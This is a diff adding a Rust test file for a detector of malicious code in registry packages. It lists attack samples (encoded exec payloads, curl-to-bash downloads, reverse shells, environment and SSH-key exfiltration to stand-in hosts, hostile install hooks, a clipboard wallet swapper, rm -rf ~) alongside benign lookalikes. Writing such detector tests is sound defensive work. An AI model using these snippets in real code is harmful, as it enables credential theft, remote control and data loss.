@@ -1,0 +1,92 @@
+//! Shapes of attacks on package registries, written down from their descriptions, and ordinary code that does similar things for a reason.
+
+use assay_manifests::Language;
+
+use super::{COMPILED, Malice, MaliceConfig, WHOLE};
+use crate::judges::testing::{judge, rules};
+
+fn found(path: &str, text: &str) -> Vec<String> {
+    let language = Language::from_path(path).expect("a known ending");
+    let verdict = judge(&Malice::new(MaliceConfig::default()), language, path, text);
+    rules(&verdict).into_iter().map(|rule| rule.trim_start_matches("malice/").to_owned()).collect()
+}
+
+/// Letters that stand for an encoded payload.
+fn blob() -> String {
+    "aW1wb3J0IG9zO29zLnN5c3RlbSgn".repeat(4)
+}
+
+#[test]
+fn every_form_compiles() {
+    assert_eq!(COMPILED.len(), WHOLE.len());
+}
+
+#[test]
+fn attacks_are_found() {
+    let blob = blob();
+    let mut missed = Vec::new();
+    for (path, text, rule) in [
+        ("a.py", format!("import base64\nexec(base64.b64decode('{blob}'))\n"), "encoded-payload"),
+        ("a.py", format!("import base64, zlib\np = '{blob}'\ncode = zlib.decompress(base64.b64decode(p))\nexec(code)\n"), "encoded-payload"),
+        ("a.js", format!("const c = Buffer.from('{blob}', 'base64').toString();\neval(c);\n"), "encoded-payload"),
+        ("a.js", format!("new Function(atob('{blob}'))();\n"), "encoded-payload"),
+        ("a.php", format!("<?php\n$x = '{blob}';\neval(base64_decode($x));\n"), "encoded-payload"),
+        ("a.rb", format!("require 'base64'\neval(Base64.decode64('{blob}'))\n"), "encoded-payload"),
+        ("a.go", format!("package a\n\nfunc f() {{\n\tc, _ := base64.StdEncoding.DecodeString(\"{blob}\")\n\texec.Command(\"sh\", \"-c\", string(c)).Run()\n}}\n"), "encoded-command"),
+        ("a.sh", format!("echo \"{blob}\" | base64 -d | bash\n"), "encoded-command"),
+        ("a.py", "import requests\nexec(requests.get('https://cdn.net-update.io/x').text)\n".to_owned(), "download-and-run"),
+        ("a.py", "import urllib.request\nbody = urllib.request.urlopen(URL).read()\nexec(body)\n".to_owned(), "download-and-run"),
+        ("a.js", "fetch(u).then((r) => r.text()).then((code) => { eval(code); });\n".to_owned(), "download-and-run"),
+        ("a.js", "https.get(u, (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => { eval(body); }); });\n".to_owned(), "download-and-run"),
+        ("a.sh", "curl -s http://93.184.2.7/a.sh | bash\n".to_owned(), "download-and-run"),
+        ("a.sh", "bash -i >& /dev/tcp/93.184.2.7/4444 0>&1\n".to_owned(), "reverse-shell"),
+        ("a.py", "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((H, 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n".to_owned(), "reverse-shell"),
+        ("a.js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, h, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n".to_owned(), "reverse-shell"),
+        ("a.go", "package a\n\nfunc f() {\n\tc, _ := net.Dial(\"tcp\", addr)\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Run()\n}\n".to_owned(), "reverse-shell"),
+        ("a.py", "import os, requests\nrequests.post('https://x.io/c', json=dict(os.environ))\n".to_owned(), "exfiltration"),
+        ("a.js", "const data = JSON.stringify(process.env);\nfetch('https://x.io/c', { method: 'POST', body: data });\n".to_owned(), "exfiltration"),
+        ("a.py", "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.io', data={'k': key})\n".to_owned(), "exfiltration"),
+        ("a.rb", "Net::HTTP.post(URI('https://x.io'), ENV.to_h.to_json)\n".to_owned(), "exfiltration"),
+        ("a.sh", "curl -X POST -d \"$(env)\" https://x.io/c\n".to_owned(), "exfiltration"),
+        ("setup.py", "import socket, getpass, requests\nfrom setuptools import setup\nd = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://x.io', json=d)\nsetup(name='x')\n".to_owned(), "install-hook"),
+        ("package.json", "{\"name\": \"x\", \"scripts\": {\"preinstall\": \"curl -s https://x.io/i.sh | bash\"}}\n".to_owned(), "install-hook"),
+        ("package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node -e \\\"require('https').get('https://x.io/'+require('os').hostname())\\\"\"}}\n".to_owned(), "install-hook"),
+        ("a.py", "import pyperclip, re, time\nMINE = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', t):\n        pyperclip.copy(MINE)\n".to_owned(), "clipboard-swap"),
+        ("a.js", "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}));\n".to_owned(), "packed-code"),
+        ("a.py", format!("x = 1;{}exec(y)\n", " ".repeat(200)), "out-of-sight"),
+        ("a.sh", "rm -rf ~\n".to_owned(), "home-removed"),
+    ] {
+        let found = found(path, &text);
+        if !found.contains(&rule.to_owned()) {
+            missed.push(format!("{rule} in {path}: {found:?}\n{text}"));
+        }
+    }
+    assert!(missed.is_empty(), "{}", missed.join("\n"));
+}
+
+#[test]
+fn ordinary_code_has_reasons() {
+    let blob = blob();
+    for (path, text) in [
+        ("a.py", format!("import base64\nLOGO = base64.b64decode('{blob}')\nshow(LOGO)\n")),
+        ("a.py", "import subprocess\nout = subprocess.check_output(['git', 'describe']).decode('utf8')\nexec(compile(open(p).read(), p, 'exec'))\n".to_owned()),
+        ("a.py", "import requests, os\nr = requests.post(url, headers={'Authorization': 'Bearer ' + os.environ['TOKEN']})\n".to_owned()),
+        ("a.py", "import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\n".to_owned()),
+        ("a.py", "import requests\nconfig = json.loads(requests.get(url).text)\n".to_owned()),
+        ("a.js", "const m = /a(b)/.exec(body);\nfetch(u).then((r) => r.json()).then((d) => render(d));\n".to_owned()),
+        ("a.js", "const child = require('child_process').spawn('node', args, { env: { ...process.env, A: '1' } });\n".to_owned()),
+        ("a.js", "fetch(process.env.API_URL, { headers: { 'x-token': process.env.TOKEN } });\n".to_owned()),
+        ("a.sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nrm -rf \"$TMP/build\" ./dist\n".to_owned()),
+        ("a.sh", "echo \"$CONFIG\" | base64 -d > config.json\nenv | sort\n".to_owned()),
+        ("setup.py", "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version=v)\n".to_owned()),
+        ("build.rs", "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::process::Command::new(\"cc\").arg(&out).status().unwrap();\n}\n".to_owned()),
+        ("package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node-gyp rebuild\", \"prepare\": \"husky install && npm run build\"}}\n".to_owned()),
+        ("a.py", "import pyperclip\nt = pyperclip.paste()\npyperclip.copy(t.upper())\n".to_owned()),
+        ("a.go", "package a\n\nfunc f() {\n\tc, _ := net.Dial(\"tcp\", addr)\n\tio.Copy(os.Stdout, c)\n}\n".to_owned()),
+        ("a.rb", "eval(File.read('Gemfile'))\nsystem('make', 'install')\n".to_owned()),
+        ("a.php", "<?php\n$data = base64_decode($_POST['image']);\nfile_put_contents($path, $data);\n".to_owned()),
+        ("a.py", "# bash -i >& /dev/tcp/10.0.0.1/4444 is what an attacker would run\nimport os\nos.system('ls')\n".to_owned()),
+    ] {
+        assert_eq!(found(path, &text), [""; 0], "{path}:\n{text}");
+    }
+}
